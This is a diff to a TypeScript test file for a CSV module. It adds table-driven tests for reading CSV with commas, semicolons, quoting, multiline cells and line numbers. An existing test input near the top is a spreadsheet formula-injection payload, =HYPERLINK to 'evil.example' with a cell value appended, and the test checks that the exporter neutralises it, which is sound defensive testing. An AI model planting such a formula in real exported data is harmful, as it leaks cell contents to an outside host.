@@ -1,6 +1,6 @@
 import * as fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { csvLine } from './csv.ts';
+import { CSV_START, csvLine, readCsv } from './csv.ts';
 
 test.each([
   ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
@@ -50,3 +50,90 @@ function readLine(line: string): string[] {
   }
   return cells;
 }
+
+test.each([
+  [
+    'a,b\n1,2',
+    [
+      [1, 'a', 'b'],
+      [2, '1', '2'],
+    ],
+  ],
+  [
+    `${CSV_START}a;b\r\n1;2\r\n`,
+    [
+      [1, 'a', 'b'],
+      [2, '1', '2'],
+    ],
+  ],
+  [
+    'a;b,c\n1;2,3',
+    [
+      [1, 'a;b', 'c'],
+      [2, '1;2', '3'],
+    ],
+  ],
+  [
+    'a;b\n1,2;3',
+    [
+      [1, 'a', 'b'],
+      [2, '1,2', '3'],
+    ],
+  ],
+  [
+    'a\n1;2',
+    [
+      [1, 'a'],
+      [2, '1;2'],
+    ],
+  ],
+  [
+    'a\rb\r\rc',
+    [
+      [1, 'a'],
+      [1, 'b'],
+      [1, 'c'],
+    ],
+  ],
+  [
+    '"a";"say ""hi"""\n"x;1" ;y',
+    [
+      [1, 'a', 'say "hi"'],
+      [2, 'x;1', 'y'],
+    ],
+  ],
+  [
+    '"two\nlines", y \n  z\t',
+    [
+      [1, 'two\nlines', 'y'],
+      [3, 'z'],
+    ],
+  ],
+  [
+    'a\n"not closed\n1',
+    [
+      [1, 'a'],
+      [2, '"not closed'],
+      [3, '1'],
+    ],
+  ],
+  [
+    'a,b\n,\n\n1,\n,2',
+    [
+      [1, 'a', 'b'],
+      [4, '1', ''],
+      [5, '', '2'],
+    ],
+  ],
+  [
+    'a,b\n1,',
+    [
+      [1, 'a', 'b'],
+      [2, '1'],
+    ],
+  ],
+  [`a${CSV_START}`, [[1, 'a']]],
+  ['', []],
+])('%j is read as spreadsheets write it', (text, rows) => {
+  expect(readCsv(text)).toEqual(rows.map(([line, ...cells]) => ({ line, cells })));
+});
